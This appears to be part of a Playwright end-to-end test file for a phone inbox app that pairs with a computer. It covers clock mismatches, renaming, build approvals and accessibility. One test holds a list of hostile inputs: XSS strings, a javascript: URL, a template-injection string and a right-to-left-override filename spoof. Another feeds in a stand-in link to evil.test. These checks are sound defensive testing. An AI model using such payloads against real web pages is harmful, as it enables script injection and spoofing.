  it("stays where a computer whose clock is wrong calls the pairing over, and goes where it is over by both clocks", async () => {
    const clock = { ahead: 0, now: () => Date.now() + clock.ahead, steady: () => performance.now() };
    const server = await startServer(GENEROUS, { clock });
    const { page } = await inboxOf(server);
    await notify(server, { message: "read before" });
    await page.getByText("read before").waitFor();
    await eventually(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
    const before = await savedBy(page);

    clock.ahead = 400 * DAY;
    await page.reload();
    await page.getByRole("heading", { level: 1, name: "The clocks don't match" }).waitFor();
    await expect.poll(() => page.content()).not.toContain("read before");
    expect(await savedBy(page)).toEqual(before);

    clock.ahead = 0;
    // Known from what was stored: the computer does not get to answer before it is seen.
    await page.route("**/phone/**", () => undefined);
    await page.getByRole("button", { name: "Try again" }).tap();
    await page.getByText("read before").waitFor();
    await page.unroute("**/phone/**");
    await page.reload();
    await isConnected(page);
    await page.getByText("read before").waitFor();

    clock.ahead = 400 * DAY;
    await page.clock.install({ time: new Date(Date.now() + 400 * DAY) });
    await page.reload();
    await page.getByRole("heading", { level: 1, name: "This phone's access has expired" }).waitFor();
    await eventually(() => savedBy(page)).toEqual([[], [], 0]);
  });

  it("gives itself another name, which the computer shows at once, and keeps it", async () => {
    const server = await startServer(GENEROUS);
    const { page, complaints } = await inboxOf(server);
    await page.getByRole("link", { name: "This phone", exact: true }).tap();
    const field = page.getByLabel("Name of this phone");
    const save = page.getByRole("button", { name: "Save name" });
    await field.fill("  ");
    await save.tap();
    await page.getByRole("alert").getByText("Enter a name of 1 to 40 characters.").waitFor();
    await expect.poll(() => field.evaluate((element) => element === document.activeElement)).toBe(true);
    await field.fill(" Ada's   Pixel ");
    await field.press("Enter");
    await page.getByRole("status").getByText("Saved.").waitFor();
    await expect.poll(() => field.inputValue()).toBe("Ada's Pixel");
    expect((await server.local("GET", "/phone/devices")).body[0].device_name).toBe("Ada's Pixel");
    await page.reload();
    await page.locator(".facts").getByText("Ada's Pixel", { exact: true }).waitFor();
    await page.context().setOffline(true);
    await field.fill("Lost");
    await save.tap();
    await page.getByRole("alert").getByText("No answer. Check your connection, then try again.").waitFor();
    await page.context().setOffline(false);
    await save.tap();
    await page.getByRole("status").getByText("Saved.").waitFor();
    expect(await axe(page)).toEqual([]);
    expect(complaints.filter((line) => !line.includes("ERR_INTERNET_DISCONNECTED"))).toEqual([]);
    await server.local("DELETE", "/phone/devices/phone-1");
    await page.getByRole("heading", { level: 1, name: "This phone was unpaired" }).waitFor();
  });

  it("is another pairing's no more", async () => {
    const server = await startServer(GENEROUS);
    const { page, context } = await inboxOf(server);
    await notify(server, { message: "for the first" });
    await page.getByText("for the first").waitFor();
    await page.goto("about:blank");
    await context.request.post(`${server.phoneAddress}/phone/pairing/accept-invite`, {
      data: phoneBody(await server.invite(undefined, "someone else"), "phone-1"),
    });
    await page.goto(`${server.phoneAddress}/inbox`);
    await isConnected(page);
    await page.getByText("Nothing here yet.").waitFor();
    await notify(server, { user_id: "someone else", message: "for the second" });
    await eventually(() => messages(page)).toEqual(["for the second"]);
  });

  it("works where the browser keeps nothing and has no workers", async () => {
    const server = await startServer(GENEROUS);
    const made = await phoneOf(server);
    await made.page.addInitScript(() => {
      const refuse = (): never => {
        throw new DOMException("no storage", "SecurityError");
      };
      Object.defineProperty(window, "localStorage", { get: refuse });
      Object.defineProperty(Navigator.prototype, "serviceWorker", {
        value: { register: () => Promise.reject(new Error("no workers")), getRegistration: refuse, addEventListener: () => undefined },
      });
    });
    await notify(server);
    await made.page.goto(`${server.phoneAddress}/inbox`);
    await made.page.getByText("All tests passed.").waitFor();
    await made.page.reload();
    await made.page.getByText("All tests passed.").waitFor();
    await server.local("DELETE", "/phone/devices/phone-1");
    await made.page.getByRole("heading", { name: "This phone was unpaired" }).waitFor();
    expect(made.complaints).toEqual([]);
  });
});

describe("a message", () => {
  it("is read once it was seen, and the computer is notified", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const id = await notify(server);
    await eventually(async () => (await server.local("GET", `/phone/notifications/${id}`)).body.deliveries[0].state).toBe("read");
    await expect.poll(() => page.getByText("New", { exact: true }).count()).toBe(0);
  });

  const HOSTILE = [
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "\"'></a><h1>Approved</h1>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "a\u202Egnp.exe",
    "x".repeat(900),
    "مرحبا بالعالم",
  ];
  it("stays words, whatever it holds", async () => {
    const server = await startServer(GENEROUS);
    const { page, complaints } = await inboxOf(server, "iPhone", { viewport: { width: 320, height: 568 } });
    for (const text of HOSTILE) {
      await notify(server, { message: text, project_name: text.slice(0, 80) });
      await asked(server, {
        plan: text,
        project_name: text.slice(0, 80),
        affected_files: [text],
        estimated_duration: text.slice(0, 80),
        build_id: "<b>",
      });
    }
    await page.getByRole("heading", { name: `Waiting for you (${HOSTILE.length})` }).waitFor();
    await eventually(() => messages(page)).toEqual(HOSTILE.map((text) => text.replace("\u202E", "\uFFFD")).reverse());
    for (const [index, text] of HOSTILE.entries()) {
      await page.locator("#waiting").getByRole("link").nth(index).click();
      await page.getByRole("heading", { name: "Approve this build?" }).waitFor();
      await expect.poll(() => page.locator(".plan").innerText()).toBe(text.replace("\u202E", "\uFFFD"));
      await expect.poll(() => page.locator("h1:visible").count()).toBe(1);
      await expect.poll(() => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
      await page.goBack();
    }
    await expect.poll(() => page.locator("main img, main script, main b").count()).toBe(0);
    await expect.poll(() => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
    expect(complaints).toEqual([]);
  });

  it("shows a long plan in full when that is wished", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server);
    const plan = Array.from({ length: 200 }, (_, line) => `${line}. step`).join("\n");
    await asked(server, { plan });
    await openApproval(page);
    await page.getByText("200 lines, 184 not shown yet.").waitFor();
    await expect.poll(() => page.locator(".plan").innerText()).toBe(plan.split("\n").slice(0, 16).join("\n"));
    await page.getByRole("button", { name: "Show all 200 lines" }).tap();
    await eventually(() => page.locator(".plan").innerText()).toBe(plan);
  });
});

describe("for everybody", () => {
  it("is whole at every size, with large letters, and its targets are large", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server, "iPhone");
    await notify(server, { message: "x".repeat(200), priority: "critical", action_required: true });
    await asked(server, { plan: `${"y".repeat(300)}\nline`, affected_files: ["z".repeat(300)] });
    await openApproval(page);
    for (const end of await page.locator(".end").all()) await end.evaluate((element) => element.scrollIntoView({ block: "center" }));
    await page.getByRole("button", { name: "Hold to approve" }).tap();
    for (const hash of ["", "#settings", "approval"]) {
      if (hash === "approval") {
        await page.goBack();
        await openApproval(page);
      } else await page.evaluate((to) => (location.hash = to), hash);
      for (const letters of ["100%", "200%"]) {
        await page.evaluate((size) => (document.documentElement.style.fontSize = size), letters);
        for (const viewport of [
          { width: 320, height: 568 },
          { width: 390, height: 664 },
          { width: 844, height: 390 },
          { width: 1024, height: 768 },
        ]) {
          await page.setViewportSize(viewport);
          const measured = await page.evaluate(() => ({
            overflow: document.documentElement.scrollWidth - innerWidth,
            targets: [...document.querySelectorAll<HTMLElement>("button, a, textarea, input")]
              .filter((element) => element.checkVisibility())
              .map((element) => element.getBoundingClientRect().height),
            smallest: Math.min(
              ...[...document.querySelectorAll("body *")].map((element) => Number.parseFloat(getComputedStyle(element).fontSize)),
            ),
            // iOS zooms into smaller fields.
            fields: [...document.querySelectorAll("input, textarea")].map((element) =>
              Number.parseFloat(getComputedStyle(element).fontSize),
            ),
          }));
          expect([hash, letters, viewport, measured.overflow <= 0]).toEqual([hash, letters, viewport, true]);
          expect(Math.min(...measured.targets)).toBeGreaterThanOrEqual(44);
          expect(measured.smallest).toBeGreaterThanOrEqual(13);
          expect(Math.min(16, ...measured.fields)).toBe(16);
        }
      }
      await page.evaluate(() => (document.documentElement.style.fontSize = ""));
    }
  });

  it("keeps still where that is wished, and still shows that it is held", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server, "iPhone", { reducedMotion: "reduce" });
    await asked(server);
    await openApproval(page);
    await page.route("**/decision", () => undefined);
    const letGo = await touch(page, "Hold to approve");
    await page.locator("[aria-busy]").waitFor();
    await letGo();
    await expect.poll(() => page.evaluate(() => document.getAnimations().length)).toBe(0);
  });

  it("axe finds nothing in forced colours", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await inboxOf(server, "Pixel", { forcedColors: "active" });
    await notify(server);
    await asked(server);
    await page.getByText("All tests passed.").waitFor();
    expect(await axe(page)).toEqual([]);
    await openApproval(page);
    expect(await axe(page)).toEqual([]);
  });

  it("says what to do without JavaScript", async () => {
    const server = await startServer(GENEROUS);
    const { page } = await phoneOf(server, "Pixel", { javaScriptEnabled: false });
    await page.goto(`${server.phoneAddress}/inbox`);
    await page.getByRole("heading", { name: "This page needs JavaScript" }).waitFor();
  });

  it("takes a pairing link by hand where it is not paired, and only its own", async () => {
    const server = await startServer(GENEROUS);
    const { page, context, complaints } = await visit(browser, "iPhone", server.phoneAddress);
    opened.push(context);
    await page.goto(`${server.phoneAddress}/inbox`);
    await page.getByRole("heading", { name: "This phone isn't paired" }).waitFor();
    expect(await axe(page)).toEqual([]);
    for (const link of ["https://evil.test/pair?code=x", "javascript:alert(1)//pair?code=x", "/pair?code=x", ""]) {
      await page.getByLabel("Pairing link").fill(link);
      await page.getByRole("button", { name: "Continue" }).tap();
      await page.getByRole("alert").getByText("That isn't a complete code or a pairing link of this address.").waitFor();
    }
    await page.getByLabel("Pairing link").fill(`Hi! Click ${server.phoneAddress}/pair?code=${await server.invite()} now`);
    await page.getByRole("button", { name: "Continue" }).tap();
    await page.getByRole("button", { name: "Accept" }).tap();
    await page.getByRole("link", { name: "Open your inbox" }).tap();
    await isConnected(page);
    expect(complaints).toEqual([]);
  });
});
